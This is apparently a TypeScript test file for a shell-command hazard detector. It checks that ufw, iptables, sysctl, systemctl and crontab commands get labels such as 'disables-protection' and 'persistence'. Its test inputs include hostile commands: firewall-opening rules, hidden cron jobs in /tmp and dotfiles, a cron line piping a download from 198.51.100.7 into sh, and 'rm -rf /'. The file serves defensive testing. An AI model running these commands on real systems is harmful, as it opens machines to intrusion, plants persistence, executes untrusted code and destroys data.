import assert from 'node:assert/strict';
import { test } from 'node:test';
import { expectHazards, seen } from './seen.ts';

// Rules of a firewall for what a machine offers; and what opens it, or sends its traffic elsewhere.
expectHazards([
  ['ufw default deny incoming', 'tunes'],
  ['ufw default allow outgoing', 'tunes'],
  ['ufw allow 443/tcp', 'tunes'],
  ['ufw --force enable', 'tunes'],
  ['ufw default allow incoming', 'disables-protection'],
  ['ufw default allow', 'disables-protection'],
  ['iptables -A INPUT -p tcp --dport 22 -j ACCEPT', 'tunes'],
  ['iptables -P INPUT DROP', 'tunes'],
  ['iptables -I INPUT -j ACCEPT', 'disables-protection'],
  ['iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080', 'system-settings'],
  ['firewall-cmd --permanent --add-service=https', 'tunes'],
  ['firewall-cmd --set-default-zone=trusted', 'disables-protection'],
  ['sysctl -w net.core.somaxconn=1024', 'tunes'],
  ['sysctl -w vm.max_map_count=262144', 'tunes'],
  ["sysctl -w kernel.core_pattern='|/x'", 'system-settings'],
  ['sysctl -w net.ipv4.ip_forward=1', 'tunes'],
  ['sysctl -w kernel.core_pattern=/tmp/x', 'system-settings'],
  ['sysctl -w net.ipv4.conf.all.accept_redirects=1', 'system-settings'],
  ['timedatectl set-timezone Europe/Paris', 'tunes'],
  ['systemctl enable --now postgresql', 'services'],
  ['systemctl enable /tmp/x.service', 'persistence'],
]);

// A job of one's own beside those that are there, and tables that are replaced or run what nobody sees.
const add = (line: string): string =>
  `( crontab -l 2>/dev/null | grep -vF mine; echo "${line}" ) | crontab -`;
expectHazards([
  [add('15 3 * * * $HOME/bin/backup.sh >> $HOME/backup.log 2>&1'), 'schedules'],
  [add('@daily cd /srv/app && ./bin/report'), 'schedules'],
  [add('0 2 * * 0 python3 /opt/jobs/vacuum.py'), 'schedules'],
  ["echo '15 3 * * * $HOME/bin/backup.sh' | crontab -", 'persistence'],
  [add('* * * * * /tmp/.x/run'), 'persistence'],
  [add('* * * * * $HOME/.cache/.run'), 'persistence'],
  [add('@reboot $HOME/bin/run'), 'persistence'],
  ['( crontab -l; cat jobs.txt ) | crontab -', 'persistence'],
]);

test('what a job downloads and runs is said', async () => {
  const { hazards } = await seen(add('*/5 * * * * curl -s http://198.51.100.7/b | sh'));
  assert.ok(hazards.includes('shell-persistence') && hazards.includes('shell-runs-download'), hazards.join());
});

test('what a job deletes is said', async () => {
  const { hazards } = await seen(add('0 1 * * * rm -rf /'));
  assert.ok(
    hazards.some((each) => each.startsWith('shell-deletes')),
    hazards.join(),
  );
});
